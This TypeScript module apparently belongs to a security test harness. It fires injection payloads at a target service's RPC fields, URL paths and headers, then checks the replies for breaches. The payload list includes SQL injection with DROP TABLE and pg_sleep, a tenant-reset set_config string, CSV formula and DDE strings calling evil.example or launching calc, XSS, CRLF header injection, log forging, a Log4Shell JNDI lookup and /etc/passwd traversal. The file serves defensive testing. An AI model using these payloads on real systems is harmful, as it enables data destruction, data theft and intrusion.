import type { DescMessage } from '@bufbuild/protobuf';
import type { Attack } from '#attack/attack.ts';
import { drawMessage, type Filling, isIdField, isText } from '#attack/draw-message.ts';
import { idFor } from '#attack/ids.ts';
import { findRpcs } from '#attack/rpcs.ts';
import { someOf } from '#attack/some-of.ts';
import { type Asked, ask, call, faultOf } from '#attack/target.ts';

const SLEEP_S = 5;

const payloads: readonly string[] = [
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  `'; SELECT pg_sleep(${SLEEP_S}); --`,
  `1); SELECT pg_sleep(${SLEEP_S})--`,
  `'||pg_sleep(${SLEEP_S})||'`,
  "$$; SELECT set_config('app.tenant_id', '', false); $$",
  '%_\\%\\_*()[]{}^$.|?+',
  '\\',
  '=HYPERLINK("https://evil.example?"&A1)',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '-2+3+cmd|x',
  '\t=1+1',
  '<script>attack()</script>',
  '"><img src=x onerror=attack()>',
  "javascript:attack()//'",
  `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`,
  'x\r\nx-injected: yes\r\n\r\n<html>',
  'x\nBcc: everybody@example.test',
  'x%0d%0ax-injected:%20yes',
  '{"level":50,"msg":"injected-line"}',
  '\n{"level":50,"msg":"injected-line"}\n',
  '\u0000',
  '\u001b[31mred\u001b[0m',
  '\u202e\u2066\ufeff',
  '\ud800',
  '__proto__',
  'constructor.prototype',
  `\${jndi:ldap://evil.example/a}`,
  '../../../../etc/passwd',
  'a'.repeat(100_000),
  `${'a'.repeat(50_000)}!`,
  '[["x",1]]',
  'WyJhc3NldHMiLCJcdTAwMDAiXQ',
];

/** Text that means something to SQL, spreadsheets, pages, headers, logs and templates, in every field that takes text. */
export const injection: Attack = {
  name: 'SQL, CSV, HTML, header and log injection',
  lacks: () => null,
  async run({ target, random, findings, callCount }) {
    const own: Filling = {
      id: (field) => idFor(random, target.own, field),
      text: () => undefined,
      bytes: () => new Uint8Array([1]),
    };
    const rpcs = await findRpcs();
    const texts = rpcs.flatMap(({ name, method }) =>
      textFieldsOf(method.input).flatMap((field) =>
        payloads.map((payload) => ({ name, method, field, payload })),
      ),
    );
    for (const { name, method, field, payload } of someOf(random, texts, callCount)) {
      const once: Filling = {
        ...own,
        text: (other) => (other === field ? payload : undefined),
        id: (other) => (other === field ? payload : own.id(other)),
      };
      const body = drawMessage(random.fork(`${name}/${field}`), method.input, once);
      findings.tried();
      const request = `${name} ${JSON.stringify(body).slice(0, 600)}`;
      const problem = problemOf(await call(target, name, { token: target.admin.token, body }));
      if (problem !== null) findings.breach(request, problem);
    }
    const pages = payloads
      .filter((each) => each.length < 1000)
      .flatMap((payload) => {
        const text = encodeURIComponent(payload.toWellFormed());
        return [
          `/${text}`,
          `/auth/callback?code=${text}&state=${text}&error=${text}&error_description=${text}`,
          `/auth/login?return=${text}`,
          `/attachments/${text}`,
          `/oidc/login/${text}`,
          `/oidc/auth?client_id=${text}&redirect_uri=${text}&scope=${text}&state=${text}`,
          `/sync/${text}`,
          `/write-checkpoint2.json?client_id=${text}`,
          `/eventkit.v1.InventoryService/ListAssets?connect=v1&encoding=json&message=${text}`,
        ].map((path) => ({ path, payload }));
      });
    for (const { path, payload } of someOf(random, pages, callCount)) {
      findings.tried();
      const inHeaders = safeHeader(payload);
      const headers = {
        accept: 'text/html',
        authorization: `Bearer ${target.admin.token}`,
        ...{ 'user-agent': inHeaders, referer: inHeaders, 'x-request-id': inHeaders },
      };
      const problem = problemOf(await ask(`${target.url}${path}`, { headers }));
      if (problem !== null) findings.breach(`GET ${path} ${JSON.stringify(headers)}`, problem);
    }
    findings.tried();
    const forged = target
      .log?.()
      .split('\n')
      .find((line) => !isOwnLine(line));
    if (forged !== undefined)
      findings.breach('a payload of this attack', `wrote a line of the log itself: ${forged.slice(0, 300)}`);
  },
};

/** Whether a line of the log is one that the server wrote, whatever stands in it. */
function isOwnLine(line: string): boolean {
  if (line.trim() === '' || !line.includes('injected-line')) return true;
  try {
    return (JSON.parse(line) as { msg?: unknown }).msg !== 'injected-line';
  } catch {
    return false;
  }
}

function problemOf(answer: Asked): string | null {
  const { headers, text, ms } = answer;
  const type = headers.get('content-type') ?? '';
  if (headers.has('x-injected')) return 'a header came out of a text';
  if (ms > SLEEP_S * 1000) return `took ${Math.round(ms)} ms, as long as the database was told to sleep`;
  if (type.includes('html') && /<script>attack|<img src=x|<html>\r?\n?$/.test(text))
    return 'a text became part of a page';
  if (type.includes('csv') && /(^|[,;\n])"?[=+@\t-]/.test(text)) return 'a cell that spreadsheets run';
  const location = headers.get('location');
  if (location !== null && /^(\/\/|javascript:|https?:\/\/evil)/i.test(location))
    return `leads elsewhere: ${location}`;
  return faultOf(answer);
}

/** Each text of a message, by its name, however deep. */
function textFieldsOf(message: DescMessage, seen = new Set<string>()): string[] {
  if (seen.has(message.typeName)) return [];
  seen.add(message.typeName);
  return [
    ...new Set(
      message.fields.flatMap((field) =>
        field.message === undefined
          ? isText(field) || isIdField(field)
            ? [field.name]
            : []
          : textFieldsOf(field.message, seen),
      ),
    ),
  ];
}

/** What a client can put into a header at all. */
function safeHeader(text: string): string {
  return text.replace(/[^\x20-\x7e\x80-\xff]/g, '');
}
